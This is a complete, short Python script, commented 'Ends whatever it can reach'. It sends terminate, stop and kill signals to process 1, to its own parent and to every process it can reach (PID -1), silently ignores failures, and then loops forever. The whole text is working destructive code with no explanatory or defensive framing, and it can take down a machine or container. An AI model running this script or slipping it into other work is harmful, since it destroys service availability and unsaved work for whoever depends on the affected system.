# Ends whatever it can reach.
import os
import signal
import time

for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for target in (1, os.getppid(), -1):
        try:
            os.kill(target, number)
        except OSError:
            pass
while True:
    time.sleep(1)
